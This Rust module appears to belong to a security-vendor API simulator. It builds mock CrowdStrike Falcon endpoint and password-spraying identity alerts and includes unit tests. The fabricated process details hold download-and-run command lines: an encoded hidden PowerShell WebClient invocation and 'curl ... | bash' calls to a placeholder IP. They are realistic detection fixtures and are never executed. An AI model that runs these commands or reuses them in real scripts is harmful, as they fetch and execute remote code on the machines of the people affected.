//! Completing an injected alert into the shapes real Falcon alerts have (vendor-apis §2.4).
//!
//! `POST /_sandbox/crowdstrike/alerts` takes any subset of fields. Endpoint alerts (`product`
//! `epp`, the default, `type` `ldt`) carry a `device` merged from the simulator's host with
//! that `device_id` and process details in the platform's own path style; identity alerts
//! (`product` `idp`) carry no `device` but source/target endpoint and account fields. Supplied
//! fields always win, unknown ones are kept as given, and a re-injection of a known
//! `composite_id` merges into the stored alert and moves `updated_timestamp` forward.

use chrono::{DateTime, Duration, SecondsFormat, Utc};
use rand::Rng;
use serde_json::{Map, Value, json};

use super::super::seed::{CID, DOMAIN};

/// What completion needs from the rest of the simulator.
pub struct Context<'a> {
    /// Current hosts (device objects), the first one being the default device.
    pub devices: &'a [Value],
    /// Oomnitza users of the seed (`username`, `email`), for identity alerts' accounts.
    pub users: &'a [Value],
    /// The time the alert is created or changed.
    pub now: DateTime<Utc>,
}

/// Falcon's timestamp format: RFC 3339 in UTC with milliseconds.
pub fn timestamp(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Millis, true)
}

/// A timestamp strictly after `previous` (if that parses), normally `now`.
pub fn bump(previous: Option<&Value>, now: DateTime<Utc>) -> String {
    let prev = previous
        .and_then(Value::as_str)
        .and_then(|s| DateTime::parse_from_rfc3339(s).ok())
        .map(|d| d.with_timezone(&Utc));
    let now_ms = now - Duration::nanoseconds(i64::from(now.timestamp_subsec_nanos() % 1_000_000));
    match prev {
        Some(p) if p >= now_ms => timestamp(p + Duration::milliseconds(1)),
        _ => timestamp(now_ms),
    }
}

/// Falcon's severity bands: 1-19 Informational, 20-39 Low, 40-59 Medium, 60-79 High,
/// 80-100 Critical.
pub fn severity_name(severity: i64) -> &'static str {
    match severity {
        i64::MIN..=19 => "Informational",
        20..=39 => "Low",
        40..=59 => "Medium",
        60..=79 => "High",
        _ => "Critical",
    }
}

/// Checks the types of the fields completion relies on; `Err` is the control API's 400 text.
pub fn validate(input: &Map<String, Value>) -> Result<(), String> {
    for key in ["composite_id", "id", "product", "status"] {
        if input.get(key).is_some_and(|v| !v.is_string()) {
            return Err(format!("'{key}' must be a string"));
        }
    }
    if let Some(s) = input.get("severity")
        && !s.as_i64().is_some_and(|n| (0..=100).contains(&n))
    {
        return Err("'severity' must be an integer from 0 to 100".into());
    }
    if input.get("device").is_some_and(|d| !d.is_object()) {
        return Err("'device' must be an object".into());
    }
    Ok(())
}

/// Builds the stored alert: `existing` (a re-injection) or fresh defaults, with `input` merged
/// over it and the derived fields recomputed unless `input` sets them.
pub fn complete(input: &Map<String, Value>, existing: Option<&Value>, ctx: &Context) -> Value {
    let mut alert = match existing {
        Some(Value::Object(m)) => m.clone(),
        _ => defaults(input, ctx),
    };
    let base_device = alert.get("device").cloned();
    for (key, value) in input {
        alert.insert(key.clone(), value.clone());
    }
    if let Some(Value::Object(partial)) = input.get("device") {
        let merged = merge_device(base_device.as_ref(), partial, ctx.devices);
        alert.insert("device".into(), merged);
    }
    derive(&mut alert, input, existing.is_some(), ctx.now);
    Value::Object(alert)
}

/// Recomputes the fields that follow from others, unless the caller supplied them.
fn derive(
    alert: &mut Map<String, Value>,
    input: &Map<String, Value>,
    update: bool,
    now: DateTime<Utc>,
) {
    let given = |k: &str| input.contains_key(k);
    if !given("severity_name")
        && let Some(sev) = alert.get("severity").and_then(Value::as_i64)
    {
        alert.insert("severity_name".into(), json!(severity_name(sev)));
    }
    if !given("agent_id")
        && let Some(aid) = alert
            .get("device")
            .and_then(|d| d.get("device_id"))
            .cloned()
    {
        alert.insert("agent_id".into(), aid);
    }
    let tactic_changed = [
        "pattern_id",
        "tactic",
        "tactic_id",
        "technique",
        "technique_id",
    ]
    .iter()
    .any(|k| given(k));
    if !given("mitre_attack") && (!update || tactic_changed) {
        let mitre = mitre_attack(alert);
        alert.insert("mitre_attack".into(), mitre);
    }
    if !given("id")
        && given("composite_id")
        && let Some(tail) = alert
            .get("composite_id")
            .and_then(Value::as_str)
            .and_then(|c| c.split_once(':'))
            .map(|(_, tail)| tail.to_string())
    {
        alert.insert("id".into(), json!(tail));
    }
    if !given("falcon_host_link") && !update {
        let id = alert.get("id").and_then(Value::as_str).unwrap_or_default();
        alert.insert("falcon_host_link".into(), json!(host_link(id)));
    }
    if update && !given("updated_timestamp") {
        let next = bump(alert.get("updated_timestamp"), now);
        alert.insert("updated_timestamp".into(), json!(next));
    }
}

fn host_link(id: &str) -> String {
    format!("https://falcon.crowdstrike.com/activity-v2/detections/{id}")
}

fn mitre_attack(alert: &Map<String, Value>) -> Value {
    let get = |k: &str| alert.get(k).cloned().unwrap_or(Value::Null);
    json!([{
        "pattern_id": get("pattern_id"),
        "tactic_id": get("tactic_id"),
        "technique_id": get("technique_id"),
        "tactic": get("tactic"),
        "technique": get("technique"),
    }])
}

/// A partial device over the stored one, or over the host with the partial's `device_id` when
/// it names another host.
fn merge_device(base: Option<&Value>, partial: &Map<String, Value>, devices: &[Value]) -> Value {
    let wanted = partial.get("device_id").and_then(Value::as_str);
    let base_id = base
        .and_then(|b| b.get("device_id"))
        .and_then(Value::as_str);
    let mut device = match (wanted, base) {
        (Some(id), _) if Some(id) != base_id => alert_device(find_device(devices, id), id),
        (_, Some(Value::Object(b))) => b.clone(),
        _ => Map::new(),
    };
    for (k, v) in partial {
        device.insert(k.clone(), v.clone());
    }
    Value::Object(device)
}

fn find_device<'a>(devices: &'a [Value], id: &str) -> Option<&'a Value> {
    devices
        .iter()
        .find(|d| d.get("device_id").and_then(Value::as_str) == Some(id))
}

/// The `device` object an alert carries: the host record plus `hostinfo.domain`.
fn alert_device(host: Option<&Value>, id: &str) -> Map<String, Value> {
    let mut device = match host {
        Some(Value::Object(m)) => m.clone(),
        _ => Map::new(),
    };
    device.insert("device_id".into(), json!(id));
    let domain = device.get("machine_domain").cloned().unwrap_or(json!(""));
    device.insert("hostinfo".into(), json!({"domain": domain}));
    device
}

fn defaults(input: &Map<String, Value>, ctx: &Context) -> Map<String, Value> {
    let product = input
        .get("product")
        .and_then(Value::as_str)
        .unwrap_or("epp");
    let mut alert = if product == "idp" {
        identity_defaults(ctx)
    } else {
        endpoint_defaults(input, ctx)
    };
    let created = input
        .get("created_timestamp")
        .cloned()
        .unwrap_or_else(|| json!(timestamp(ctx.now)));
    let common = json!({
        "cid": CID,
        "product": product,
        "severity": 50,
        "confidence": 80,
        "status": "new",
        "show_in_ui": true,
        "tags": [],
        "created_timestamp": created,
        "timestamp": created,
        "updated_timestamp": timestamp(ctx.now),
    });
    if let Value::Object(c) = common {
        alert.extend(c);
    }
    alert
}

fn endpoint_defaults(input: &Map<String, Value>, ctx: &Context) -> Map<String, Value> {
    let requested = input
        .get("device")
        .and_then(|d| d.get("device_id"))
        .or_else(|| input.get("agent_id"))
        .and_then(Value::as_str)
        .map(str::to_string);
    let first_id = ctx
        .devices
        .first()
        .and_then(|d| d.get("device_id"))
        .and_then(Value::as_str)
        .unwrap_or("0000000000000000000000000000000")
        .to_string();
    let aid = requested.unwrap_or(first_id);
    let device = alert_device(find_device(ctx.devices, &aid), &aid);
    let platform = device
        .get("platform_name")
        .and_then(Value::as_str)
        .unwrap_or("Windows")
        .to_string();
    let user = device
        .get("last_login_user")
        .and_then(Value::as_str)
        .unwrap_or("svc_local")
        .to_string();
    let tail = format!("{}-10197-{}", digits(11), digits(8));
    let id = format!("ind:{aid}:{tail}");
    let process = process_details(&platform, &user);
    let mut alert = json!({
        "composite_id": format!("{CID}:{id}"),
        "id": id,
        "aggregate_id": format!("aggind:{aid}:{}", digits(11)),
        "agent_id": aid,
        "type": "ldt",
        "name": "SuspiciousScriptInterpreter",
        "display_name": "Suspicious script interpreter activity",
        "description": "A script interpreter ran an obfuscated command line that downloads and runs a remote payload.",
        "objective": "Falcon Detection Method",
        "scenario": "suspicious_activity",
        "pattern_id": 10197,
        "tactic": "Execution",
        "tactic_id": "TA0002",
        "technique": "Command and Scripting Interpreter",
        "technique_id": "T1059",
        "user_name": user,
        "logon_domain": "CORP",
        "pattern_disposition": 0,
        "pattern_disposition_description": "Detection, standard detection.",
        "pattern_disposition_details": disposition_details(),
        "ioc_context": [],
        "quarantined_files": [],
        "device": device,
    });
    if let (Value::Object(a), Value::Object(p)) = (&mut alert, process) {
        a.extend(p);
    }
    match alert {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

/// Process, parent and grandparent in the platform's path style (Windows device paths with
/// backslashes, Unix paths elsewhere), with fresh hashes.
fn process_details(platform: &str, user: &str) -> Value {
    let (me, parent, grandparent) = match platform {
        "Windows" => (
            (
                "powershell.exe",
                r"\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#.to_string(),
            ),
            (
                "cmd.exe",
                r"\Device\HarddiskVolume3\Windows\System32\cmd.exe",
                format!(r#"C:\Windows\system32\cmd.exe /c "C:\Users\{user}\Downloads\invoice.bat""#),
            ),
            (
                "explorer.exe",
                r"\Device\HarddiskVolume3\Windows\explorer.exe",
                r"C:\Windows\Explorer.EXE".to_string(),
            ),
        ),
        "Mac" => (
            (
                "bash",
                "/bin/bash",
                "/bin/bash -c curl -fsSL http://198.51.100.23/p.sh | bash".to_string(),
            ),
            ("zsh", "/bin/zsh", "-zsh".to_string()),
            (
                "Terminal",
                "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
                "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal".to_string(),
            ),
        ),
        _ => (
            (
                "bash",
                "/usr/bin/bash",
                "bash -c 'curl -fsSL http://198.51.100.23/p.sh | bash'".to_string(),
            ),
            (
                "python3",
                "/usr/bin/python3",
                "/usr/bin/python3 /tmp/.cache/update.py".to_string(),
            ),
            ("sshd", "/usr/sbin/sshd", format!("sshd: {user}@pts/0")),
        ),
    };
    let details = |(filename, filepath, cmdline): (&str, &str, String)| {
        json!({
            "filename": filename,
            "filepath": filepath,
            "cmdline": cmdline,
            "sha256": hex(64),
            "md5": hex(32),
            "user_name": user,
        })
    };
    let (filename, filepath, cmdline) = me;
    json!({
        "filename": filename,
        "filepath": filepath,
        "cmdline": cmdline,
        "sha256": hex(64),
        "sha1": hex(40),
        "md5": hex(32),
        "parent_details": details(parent),
        "grandparent_details": details(grandparent),
    })
}

fn disposition_details() -> Value {
    const FLAGS: &[&str] = &[
        "indicator",
        "inddet_mask",
        "sensor_only",
        "rooting",
        "kill_process",
        "kill_subprocess",
        "quarantine_machine",
        "quarantine_file",
        "policy_disabled",
        "kill_parent",
        "operation_blocked",
        "process_blocked",
        "registry_operation_blocked",
        "critical_process_disabled",
        "bootup_safeguard_enabled",
        "fs_operation_blocked",
        "handle_operation_downgraded",
        "kill_action_failed",
        "blocking_unsupported_or_disabled",
        "suspend_process",
        "suspend_parent",
        "containment_file_system",
    ];
    let mut map: Map<String, Value> = FLAGS
        .iter()
        .map(|f| (f.to_string(), json!(false)))
        .collect();
    map.insert("detect".into(), json!(true));
    Value::Object(map)
}

fn identity_defaults(ctx: &Context) -> Map<String, Value> {
    let owner = ctx
        .devices
        .first()
        .and_then(|d| d.get("last_login_user"))
        .and_then(Value::as_str);
    let user = ctx
        .users
        .iter()
        .find(|u| u.get("username").and_then(Value::as_str) == owner)
        .or_else(|| ctx.users.first());
    let username = user
        .and_then(|u| u.get("username"))
        .and_then(Value::as_str)
        .unwrap_or("unknown.user")
        .to_string();
    let email = user
        .and_then(|u| u.get("email"))
        .and_then(Value::as_str)
        .map(str::to_string)
        .unwrap_or_else(|| format!("{username}@{DOMAIN}"));
    let host = ctx
        .devices
        .iter()
        .find(|d| d.get("last_login_user").and_then(Value::as_str) == Some(username.as_str()))
        .or_else(|| ctx.devices.first());
    let field = |k: &str| host.and_then(|h| h.get(k)).and_then(Value::as_str);
    let fqdn = format!(
        "{}.{}",
        field("hostname")
            .unwrap_or("ws-unknown")
            .to_ascii_lowercase(),
        field("machine_domain").unwrap_or("corp.acme.example")
    );
    let tail = hex(32);
    let id = format!("idp:{CID}:{tail}");
    let alert = json!({
        "composite_id": format!("{CID}:{id}"),
        "id": id,
        "aggregate_id": format!("aggidp:{CID}:{}", hex(32)),
        "type": "idp-session-source-user-endpoint-target-info",
        "name": "PasswordSpraying",
        "display_name": "Password spraying",
        "description": "Many failed authentication attempts against several accounts came from one source endpoint.",
        "objective": "Gain Access",
        "scenario": "credential_theft",
        "pattern_id": 51113,
        "tactic": "Credential Access",
        "tactic_id": "TA0006",
        "technique": "Brute Force",
        "technique_id": "T1110",
        "user_name": username,
        "source_account_name": username,
        "source_account_upn": email,
        "source_account_domain": "CORP.ACME.EXAMPLE",
        "source_endpoint_host_name": fqdn,
        "source_endpoint_ip_address": field("local_ip").unwrap_or("10.0.0.1"),
        "target_endpoint_host_name": "dc01.corp.acme.example",
    });
    match alert {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

fn hex(n: usize) -> String {
    const DIGITS: &[u8] = b"0123456789abcdef";
    let mut rng = rand::rng();
    (0..n)
        .map(|_| char::from(DIGITS[rng.random_range(0..16)]))
        .collect()
}

fn digits(n: usize) -> String {
    let mut rng = rand::rng();
    (0..n)
        .map(|_| char::from(b'0' + rng.random_range(0..10u8)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Seed;

    fn ctx(seed: &Seed) -> Context<'_> {
        Context {
            devices: &seed.crowdstrike.devices,
            users: &seed.oomnitza.users,
            now: Utc::now(),
        }
    }

    fn obj(v: Value) -> Map<String, Value> {
        v.as_object().cloned().unwrap_or_default()
    }

    #[test]
    fn empty_input_becomes_a_full_endpoint_alert() {
        let seed = Seed::standard();
        let a = complete(&Map::new(), None, &ctx(&seed));
        let first = &seed.crowdstrike.devices[0];
        assert_eq!(a["product"], "epp");
        assert_eq!(a["type"], "ldt");
        assert_eq!(a["severity"], 50);
        assert_eq!(a["severity_name"], "Medium");
        assert_eq!(a["status"], "new");
        assert_eq!(a["cid"], CID);
        assert_eq!(a["device"]["device_id"], first["device_id"]);
        assert_eq!(a["device"]["hostname"], first["hostname"]);
        assert_eq!(a["agent_id"], first["device_id"]);
        let cid = a["composite_id"].as_str().unwrap_or_default();
        assert!(cid.starts_with(&format!("{CID}:ind:")));
        assert_eq!(a["mitre_attack"][0]["technique_id"], "T1059");
        assert!(
            a["pattern_disposition_details"]["detect"]
                .as_bool()
                .unwrap_or(false)
        );
        assert!(
            a["falcon_host_link"]
                .as_str()
                .unwrap_or_default()
                .ends_with(a["id"].as_str().unwrap_or("x"))
        );
    }

    #[test]
    fn windows_hosts_get_device_paths() {
        let seed = Seed::standard();
        let windows = seed
            .crowdstrike
            .devices
            .iter()
            .find(|d| d["platform_name"] == "Windows")
            .cloned()
            .unwrap_or_default();
        let input =
            obj(json!({"device": {"device_id": windows["device_id"], "hostname": "RENAMED"}}));
        let a = complete(&input, None, &ctx(&seed));
        assert!(
            a["filepath"]
                .as_str()
                .unwrap_or_default()
                .starts_with(r"\Device\")
        );
        assert_eq!(a["device"]["hostname"], "RENAMED");
        assert_eq!(a["device"]["os_version"], windows["os_version"]);
    }

    #[test]
    fn identity_alerts_have_no_device() {
        let seed = Seed::standard();
        let a = complete(
            &obj(json!({"product": "idp", "severity": 85})),
            None,
            &ctx(&seed),
        );
        assert!(a.get("device").is_none());
        assert_eq!(a["severity_name"], "Critical");
        assert_eq!(a["tactic"], "Credential Access");
        assert_eq!(a["technique_id"], "T1110");
        assert!(
            a["source_account_upn"]
                .as_str()
                .unwrap_or_default()
                .ends_with(DOMAIN)
        );
        assert!(
            a["source_endpoint_host_name"]
                .as_str()
                .unwrap_or_default()
                .contains('.')
        );
    }

    #[test]
    fn reinjection_merges_and_moves_updated_timestamp() {
        let seed = Seed::standard();
        let c = ctx(&seed);
        let first = complete(&obj(json!({"custom": 1})), None, &c);
        let second = complete(&obj(json!({"severity": 90})), Some(&first), &c);
        assert_eq!(second["composite_id"], first["composite_id"]);
        assert_eq!(second["custom"], 1);
        assert_eq!(second["severity_name"], "Critical");
        assert!(
            second["updated_timestamp"].as_str() > first["updated_timestamp"].as_str(),
            "updated_timestamp moves forward"
        );
    }

    #[test]
    fn supplied_composite_id_derives_id() {
        let seed = Seed::standard();
        let a = complete(
            &obj(json!({"composite_id": "abc:ind:def:1"})),
            None,
            &ctx(&seed),
        );
        assert_eq!(a["id"], "ind:def:1");
    }

    #[test]
    fn validation_rejects_wrong_types() {
        assert!(validate(&obj(json!({"severity": "high"}))).is_err());
        assert!(validate(&obj(json!({"device": "x"}))).is_err());
        assert!(validate(&obj(json!({"composite_id": 5}))).is_err());
        assert!(validate(&obj(json!({"severity": 70, "extra": [1]}))).is_ok());
    }
}
